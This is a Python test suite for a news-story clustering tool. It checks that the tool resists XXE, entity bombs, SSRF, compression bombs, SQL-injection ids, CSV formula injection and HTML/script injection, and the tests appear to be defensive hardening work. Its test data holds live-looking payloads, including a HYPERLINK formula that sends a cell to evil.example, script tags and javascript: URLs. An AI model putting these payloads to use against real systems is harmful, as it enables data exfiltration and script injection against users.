"""The hostile cases that held (issue 26): each a row of a table, each with its exact outcome.

What a hostile user tried and samestory withstood, kept here so that no change brings one
back: entity tricks in feeds and pages (XXE, billion laughs), requests to a feed entry's
links (SSRF), gzip bombs, formula cells in CSV, markup in the report, SQL metacharacters in
ids, 20,000 identical titles, a store locked for a while, a full disk, kill -9 in the middle
of an ``add`` and two writers with six readers. Cases already guarded elsewhere are listed
in docs/cli.md ("Bad input"); the ones that failed live in the other ``test_hostile_*.py``.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import subprocess
import threading
import time
from collections.abc import Iterator

import pytest

import clustering.grouping.clusterer as clusterer_module
from clustering import StoryClusterer, articles_from_records, load_articles
from clustering.cli import main
from clustering.reading.fetch import Fetcher
from embeddings import CachedEmbedder
from tests.fakes import AngleEmbedder, open_fake_store
from tests.feedserver import feed_error, serve
from tests.hostile import (
    ASKED,
    LAUGHS,
    QUADRATIC,
    XXE,
    Recording,
    integrity_and_ids,
    page,
    rss,
    store_process,
)

# --- Entity tricks in feeds and pages: nothing expanded, no file read ----------------------

ENTITY_DOCUMENTS = {
    "xxe.rss": (
        rss(XXE, "Ministers meet in Baku &xxe;", "Text &xxe; here"),
        [("e1", "Ministers meet in Baku &xxe;")],
    ),
    "laughs.rss": (rss(f"<!DOCTYPE rss [{LAUGHS}]>", "Laughs &lol9;"), [("e1", "Laughs &lol9;")]),
    "quadratic.rss": (
        rss(f"<!DOCTYPE rss [{QUADRATIC}]>", "Big " + "&big;" * 2000),
        [("e1", "Big " + "&big;" * 2000)],
    ),
    "xxe.html": (
        page(XXE, "Ministers meet in Baku &xxe;"),
        [("xxe.html", "Ministers meet in Baku &xxe;")],
    ),
    "laughs.html": (
        page(f"<!DOCTYPE html [{LAUGHS}]>", "Laughs &lol9; in Baku"),
        [("laughs.html", "Laughs &lol9; in Baku")],
    ),
}


@pytest.fixture(scope="module")
def warm(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Load the readers' models once, so that a case's CPU time is its own."""
    folder = tmp_path_factory.mktemp("warm")
    for name in ("plain.rss", "plain.html"):
        maker = rss if name.endswith("rss") else page
        (folder / name).write_text(maker("", "Ministers meet in Baku"), encoding="utf-8")
    load_articles([folder])


@pytest.mark.parametrize("name", sorted(ENTITY_DOCUMENTS))
def test_entities_are_neither_expanded_nor_resolved(tmp_path, warm, name):
    content, expected = ENTITY_DOCUMENTS[name]
    (tmp_path / name).write_text(content, encoding="utf-8")
    started = time.process_time()  # CPU, not wall time: the same on a busy machine
    table = load_articles([tmp_path / name]).articles
    assert time.process_time() - started < 2
    assert list(zip(table["id"], table["title"], strict=True)) == expected
    words = " ".join([*table["title"], *table["text"]])
    assert "root:" not in words  # nothing of /etc/passwd
    assert "lollol" not in words and "xxxxx" not in words
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # nothing written


# --- Requests: a feed's entry links are never fetched (SSRF); gzip bombs stop at the limit --


@pytest.fixture(scope="module")
def hostile_base() -> Iterator[str]:
    """The base URL of the recording server on 127.0.0.1."""
    yield from serve(Recording)


@pytest.fixture
def asked(no_proxy: None) -> list[str]:
    """The recording server's log, empty at the start of the test."""
    ASKED.clear()
    return ASKED


def _cli(runner, *args):
    return runner.invoke(main, [str(a) for a in args])


@pytest.mark.parametrize(
    ("route", "stored"),
    [
        ("/links.rss", [("{base}/forbidden/guid", "a0 Ministers meet in Baku &remote;")]),
        ("/links.atom", [("urn:fil:1", "a0 Les ministres à Bakou")]),
    ],
)
def test_no_request_is_made_to_what_a_feed_links_to(
    runner, tmp_path, monkeypatch, hostile_base, asked, route, stored
):
    monkeypatch.setattr("clustering.cli.store.open_store", open_fake_store)
    monkeypatch.chdir(tmp_path)
    db, url = tmp_path / "s.db", hostile_base + route
    added = _cli(runner, "add", "--store", db, url)
    assert (added.exit_code, added.stderr) == (0, ""), added.output
    exported = _cli(runner, "export", "--store", db)
    reported = _cli(runner, "report", "--store", db, "-o", tmp_path / "r.html")
    assert (exported.exit_code, reported.exit_code) == (0, 0)
    rows = [json.loads(line) for line in exported.stdout.splitlines()]
    assert [(r["id"], r["title"]) for r in rows] == [
        (ident.format(base=hostile_base), title) for ident, title in stored
    ]
    assert asked == [route]  # the feed, and nothing it names
    assert "/forbidden" not in reported.stdout + reported.stderr
    written = {p.name for p in tmp_path.iterdir()}  # the working folder: nothing else
    assert {"r.html", "s.db"} <= written <= {"r.html", "s.db", "s.db-wal", "s.db-shm"}


def test_no_request_is_made_to_what_a_page_links_to(tmp_path, hostile_base, asked):
    forbidden = f"{hostile_base}/forbidden"
    page = tmp_path / "page.html"
    page.write_text(
        f'<html><head><link rel="stylesheet" href="{forbidden}/css">'
        f'<link rel="canonical" href="{forbidden}/canonical">'
        f'<meta property="og:url" content="{forbidden}/og">'
        f'<meta http-equiv="refresh" content="0; url={forbidden}/refresh">'
        f'<script src="{forbidden}/js"></script><base href="{forbidden}/base/"></head>'
        f'<body><h1>Ministers meet in Baku</h1><img src="{forbidden}/img">'
        f'<iframe src="{forbidden}/frame"></iframe><p>The defence ministers met in Baku on '
        f'Friday and <a href="{forbidden}/a">signed</a> a plan about the border.</p>'
        "</body></html>",
        encoding="utf-8",
    )
    table = load_articles([page]).articles
    assert list(table["title"]) == ["Ministers meet in Baku"]
    assert asked == []


@pytest.mark.parametrize(
    ("route", "message"),
    [
        ("/bomb-gzip", "feed larger than 50,000,000 bytes"),
        ("/bomb-deflate", "feed larger than 50,000,000 bytes"),
        ("/bomb-double", "malformed feed XML (not well-formed (invalid token))"),
    ],
)
def test_a_compression_bomb_stops_at_the_default_limit(hostile_base, asked, route, message):
    started = time.process_time()
    url = hostile_base + route
    assert feed_error(url, Fetcher(host_spacing=0)) == f"{url}: {message}"
    assert time.process_time() - started < 2
    assert asked == [route]


# --- What the store gives back: ids with SQL in them, formula cells, markup in the report --

#: ids added together → each stored and exported exactly once, under its own id.
SQL_IDS = {
    "drop table": ["x'; DROP TABLE articles; --", 'y"); DELETE FROM history; --'],
    "always true": ["' OR '1'='1", '" OR 1=1 --'],
    "like wildcards": ["a%", "ab", "a_", "a\\"],
    "quotes and semicolons": ["''", '""', ";", "`id`", "[id]"],
    "a story's id": ["S1", "S2", "st000001"],
}


@pytest.mark.parametrize("case", sorted(SQL_IDS))
def test_sql_metacharacters_in_ids_are_plain_ids(runner, tmp_path, monkeypatch, case):
    monkeypatch.setattr("clustering.cli.store.open_store", open_fake_store)
    ids, db, source = SQL_IDS[case], tmp_path / "s.db", tmp_path / "in.jsonl"
    rows = [{"id": ident, "title": f"a{10 * n} report {n}"} for n, ident in enumerate(ids)]
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    first, again = (_cli(runner, "add", "--store", db, source) for _ in range(2))
    assert (first.exit_code, again.exit_code) == (0, 0), first.output + again.output
    assert [line.split("\t")[2] for line in first.stdout.splitlines()] == ["new"] * len(ids)
    assert [line.split("\t")[2] for line in again.stdout.splitlines()] == ["duplicate"] * len(ids)
    exported = _cli(runner, "export", "--store", db)
    assert [json.loads(line)["id"] for line in exported.stdout.splitlines()] == ids
    connection = sqlite3.connect(db)
    assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert connection.execute("SELECT count(*) FROM articles").fetchone() == (len(ids),)
    assert connection.execute("SELECT count(*) FROM history").fetchone() == (len(ids),)
    connection.close()


#: (id, title, desk) of the hostile rows; desk is a column samestory only carries along.
FORMULA_ROWS = [
    ("f-eq", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1"),
    ("f-plus", "+33 1 23 45 calls the wire", "+1 555"),
    ("f-minus", "-2+3 is the score", "-12"),
    ("f-at", "@SUM(A1:A9) in the headline", "@desk"),
    ("=f-id", "a0 an id that is a formula", "\tcmd"),
]
#: (command, id, column) → the cell as written in the CSV.
FORMULA_CELLS = {
    ("stories", "f-eq", "title"): '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    ("stories", "f-eq", "desk"): "'=1+1",
    ("stories", "f-plus", "title"): "'+33 1 23 45 calls the wire",
    ("stories", "f-plus", "desk"): "'+1 555",
    ("stories", "f-minus", "title"): "'-2+3 is the score",
    ("stories", "f-minus", "desk"): "-12",
    ("stories", "f-at", "title"): "'@SUM(A1:A9) in the headline",
    ("stories", "f-at", "desk"): "'@desk",
    ("stories", "'=f-id", "desk"): "'\tcmd",
    ("export", "f-eq", "title"): '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    ("export", "f-plus", "desk"): "'+1 555",
    ("export", "f-minus", "desk"): "-12",
    ("export", "f-at", "title"): "'@SUM(A1:A9) in the headline",
    ("export", "'=f-id", "desk"): "'\tcmd",
}


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A store of the formula rows, added through the CLI with the fake model."""
    from click.testing import CliRunner

    folder = tmp_path_factory.mktemp("hostile-store")
    source, db = folder / "in.jsonl", folder / "s.db"
    rows = [
        {"id": i, "title": t, "desk": d, "url": "javascript:alert(1)"} for i, t, d in FORMULA_ROWS
    ]
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("clustering.cli.store.open_store", open_fake_store)
        assert _cli(CliRunner(), "add", "--store", db, source).exit_code == 0
    return str(db)


@pytest.mark.parametrize(("command", "ident", "column"), sorted(FORMULA_CELLS))
def test_csv_cells_start_no_formula(runner, hostile_store, command, ident, column):
    result = _cli(runner, command, "--store", hostile_store, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(FORMULA_ROWS)
    assert {row["id"]: row[column] for row in rows}[ident] == FORMULA_CELLS[command, ident, column]


MARKUP = {
    "script": "<script>alert(1)</script>",
    "closing": "</script><img src=x onerror=alert(3)>",
    "svg": "<svg onload=alert(4)>",
    "comment": "<!-- --><iframe src=javascript:alert(5)>",
}


@pytest.mark.parametrize("field", ["id", "title", "source", "desk"])
def test_markup_in_the_report_stays_text(runner, tmp_path, monkeypatch, field):
    monkeypatch.setattr("clustering.cli.store.open_store", open_fake_store)
    rows = [  # a title is read as markup: text before the tags keeps the row
        {"id": f"m{n}", "title": f"a{n} markup", "url": "javascript:alert(2)"}
        | {field: f"a{n} {value}" if field == "title" else value}
        for n, value in enumerate(MARKUP.values())
    ]
    source, db, page = tmp_path / "in.jsonl", tmp_path / "s.db", tmp_path / "r.html"
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    assert _cli(runner, "add", "--store", db, source).exit_code == 0
    assert _cli(runner, "report", "--store", db, "-o", page).exit_code == 0
    html = page.read_text(encoding="utf-8")
    assert (html.count("<script"), html.count("</script>")) == (2, 2)
    assert [tag for tag in ("<img", "<svg", "<iframe", "<!-- -->") if tag in html] == []
    assert "javascript:alert(2)" not in html  # only http(s) links are kept


# --- The store under stress: a lock, a full disk, kill -9, two writers and six readers ------

_TWELVE = sorted(["kept", *(f"x{i}" for i in range(12))])


@pytest.mark.slow  # a process of its own for each moment
@pytest.mark.parametrize(
    ("prefix", "nth", "ids"),
    [
        ("BEGIN IMMEDIATE", 1, ["kept"]),
        ("INSERT INTO articles", 1, ["kept"]),
        ("INSERT INTO stories", 2, ["kept"]),
        ("INSERT INTO history", 12, ["kept"]),  # the last row of the add
        ("COMMIT", 1, ["kept"]),  # as the commit starts
        ("after COMMIT", 1, _TWELVE),  # the statement after it
    ],
)
def test_kill_9_at_any_moment_of_an_add_leaves_all_or_nothing(tmp_path, prefix, nth, ids):
    with open_fake_store(tmp_path / "s.db", None, None) as store:
        store.add(articles_from_records([{"id": "kept", "title": "a0 before"}]).articles)
    killed = store_process(tmp_path, "kill", prefix, str(nth))
    assert killed.wait(timeout=60) == -9, killed.communicate()[1]
    assert integrity_and_ids(tmp_path / "s.db") == ("ok", ids, len(ids))
    with open_fake_store(tmp_path / "s.db", None, None) as store:  # the store goes on
        store.add(articles_from_records([{"id": "after", "title": "a0 after"}]).articles)
    assert integrity_and_ids(tmp_path / "s.db") == ("ok", sorted([*ids, "after"]), len(ids) + 1)


@pytest.mark.slow  # three processes
def test_two_writers_and_six_readers_lose_nothing_and_see_whole_adds(tmp_path):
    """Two writer processes; six readers, threads of a third, each with its own connection."""
    open_fake_store(tmp_path / "s.db", None, None).close()
    stop = tmp_path / "stop"
    readers = store_process(tmp_path, "read", str(stop), "6")
    assert readers.stdout.readline() == "ready\n"  # every reader has read once
    writers = [store_process(tmp_path, "write", prefix, "5", "10") for prefix in ("p", "q")]
    assert [w.wait(timeout=300) for w in writers] == [0, 0], writers[0].communicate()[1]
    stop.touch()
    out, err = readers.communicate(timeout=60)
    assert readers.returncode == 0, err
    seen = json.loads(out)
    assert len(seen) == 6
    for counts in seen:  # every read saw whole adds only, never fewer than before
        assert [c % 10 for c in counts] == [0] * len(counts)
        assert counts == sorted(counts) and counts[-1] == 100
    expected = sorted(f"{p}{i}" for p in "pq" for i in range(50))
    assert integrity_and_ids(tmp_path / "s.db") == ("ok", expected, 100)


@pytest.mark.parametrize(
    ("held", "timeout", "exit_code", "stdout", "problem", "ids"),
    [  # None: held until the add is over, as 75 s outlast the 60 s in use
        (0.5, 10.0, 0, "1\tS1\tnew\n", None, ["1"]),
        (None, 0.5, 2, "", "the store stays locked by another process (database is locked)", []),
    ],
)
def test_a_store_locked_for_a_while_is_waited_for_up_to_the_busy_timeout(
    runner, tmp_path, monkeypatch, held, timeout, exit_code, stdout, problem, ids
):
    from clustering.store import database

    monkeypatch.setattr("clustering.cli.store.open_store", open_fake_store)
    monkeypatch.setattr(database, "BUSY_TIMEOUT", timeout)  # 60 s in use
    db, source = tmp_path / "s.db", tmp_path / "in.jsonl"
    open_fake_store(db, None, None).close()
    source.write_text('{"id": "1", "title": "a0 floods in the north"}\n', encoding="utf-8")
    writer = sqlite3.connect(db, isolation_level=None, check_same_thread=False)
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("INSERT INTO meta VALUES ('held', 'by another writer')")
    release = threading.Timer(held or 0, writer.execute, ("COMMIT",))
    started = time.monotonic()
    if held is not None:
        release.start()
    added = _cli(runner, "add", "--store", db, source)
    waited = time.monotonic() - started
    if held is None:
        release.start()
    release.join()
    writer.close()
    assert (added.exit_code, added.stdout) == (exit_code, stdout)
    assert added.stderr == (f"Error: {db}: {problem}\n" if problem else "")
    assert waited >= min(held or timeout, timeout)
    assert integrity_and_ids(db) == ("ok", ids, len(ids))


@pytest.fixture
def small_disk(tmp_path) -> Iterator[object]:
    """A 2 MB tmpfs under ``tmp_path`` (root with mount rights only: skips elsewhere)."""
    disk = tmp_path / "disk"
    disk.mkdir()
    if shutil.which("mount") is None:
        pytest.skip("no mount command")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(disk)], capture_output=True
    )
    if mounted.returncode:
        pytest.skip(f"cannot mount a tmpfs: {mounted.stderr.decode().strip()}")
    yield disk
    subprocess.run(["umount", str(disk)], check=True)


def _big_batch(path, prefix: str, count: int, size: int) -> None:
    rows = [
        {"id": f"{prefix}{n}", "title": f"a{n} {prefix} report", "text": f"word{n} " * (size // 6)}
        for n in range(count)
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")


@pytest.mark.slow  # writes 3 MB through the store
def test_a_full_disk_fails_the_add_in_one_line_and_keeps_what_was_stored(
    runner, tmp_path, monkeypatch, small_disk
):
    monkeypatch.setattr("clustering.cli.store.open_store", open_fake_store)
    db, small, big = small_disk / "s.db", tmp_path / "small.jsonl", tmp_path / "big.jsonl"
    _big_batch(small, "s", 10, 2_000)
    _big_batch(big, "b", 30, 100_000)  # 3 MB of text for a 2 MB disk
    (small_disk / "ballast").write_bytes(b"\0" * 500_000)
    assert _cli(runner, "add", "--store", db, small).exit_code == 0
    full = _cli(runner, "add", "--store", db, big)
    assert (full.exit_code, full.stdout) == (2, "")
    assert full.stderr == f"Error: {db}: the disk is full (database or disk is full)\n"
    stored = sorted(f"s{n}" for n in range(10))
    assert integrity_and_ids(db) == ("ok", stored, 10)
    (small_disk / "ballast").unlink()  # room again: the store takes more
    _big_batch(small, "t", 10, 2_000)
    assert _cli(runner, "add", "--store", db, small).exit_code == 0
    assert integrity_and_ids(db) == ("ok", sorted([*stored, *(f"t{n}" for n in range(10))]), 20)


@pytest.mark.slow  # a process of its own
def test_a_file_size_limit_fails_the_add_in_one_line_and_keeps_what_was_stored(tmp_path):
    """The full disk where no tmpfs can be mounted: RLIMIT_FSIZE stops the store's files."""
    big = tmp_path / "big.jsonl"
    _big_batch(big, "b", 30, 100_000)
    limited = store_process(tmp_path, "full", str(big), "1000000")
    out, err = limited.communicate(timeout=120)
    db = tmp_path / "s.db"
    assert (limited.returncode, out) == (2, "")
    assert err == f"Error: {db}: a read or write error (disk I/O error)\n"
    assert integrity_and_ids(db) == ("ok", [], 0)


# --- 20,000 identical titles: one point, one story, bounded work ---------------------------

IDENTICAL = 20_000


def _identical(path=None, lang=None) -> list[dict[str, str | None]]:
    title, day = "a10 Earthquake hits the city of Izmir", "2026-02-06T10:00"
    rows = [
        {"id": f"c{n:05d}", "title": title, "published": day, "lang": lang}
        for n in range(IDENTICAL)
    ]
    if path is not None:
        path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return rows


def test_twenty_thousand_identical_titles_are_one_point_and_one_story(tmp_path, monkeypatch):
    encoded: list[int] = []
    graphs: list[int] = []

    class Counting(AngleEmbedder):
        def encode(self, texts):
            encoded.append(len(texts))
            return super().encode(texts)

    build = clusterer_module.candidate_graph
    monkeypatch.setattr(
        clusterer_module,
        "candidate_graph",
        lambda scorer, hours: graphs.append(len(scorer)) or build(scorer, hours),
    )
    articles_from_records([{"id": "warm", "title": "loads the language model"}])
    started = time.process_time()
    table = articles_from_records(_identical(lang="en")).articles  # the CLI case detects it
    embedder = CachedEmbedder(Counting(), tmp_path / "cache")
    fitted = StoryClusterer(embedder=embedder, pair_model=None, max_distance=0.2).fit(table)
    assert time.process_time() - started < 4  # about 1 s of CPU here
    assert (encoded, graphs) == ([1], [1])
    assert [sorted(s.members) for s in fitted.stories_] == [[r["id"] for r in _identical()]]


@pytest.mark.slow  # the bundled model, 20,000 rows through the CLI
def test_twenty_thousand_identical_titles_through_the_cli(runner, tmp_path, monkeypatch):
    from clustering import pipeline

    made = []
    real = pipeline.make_embedder
    monkeypatch.setattr(
        pipeline, "make_embedder", lambda *a, **k: made.append(real(*a, **k)) or made[-1]
    )
    source = tmp_path / "same.jsonl"
    _identical(source)
    result = _cli(runner, "cluster", source, "--format", "json", "--cache-dir", tmp_path / "cache")
    assert result.exit_code == 0, result.output
    stories = json.loads(result.stdout)["stories"]
    assert [(s["size"], s["outlier"]) for s in stories] == [(IDENTICAL, False)]
    assert [(e.misses, e.hits) for e in made] == [(1, IDENTICAL - 1)]  # one text embedded
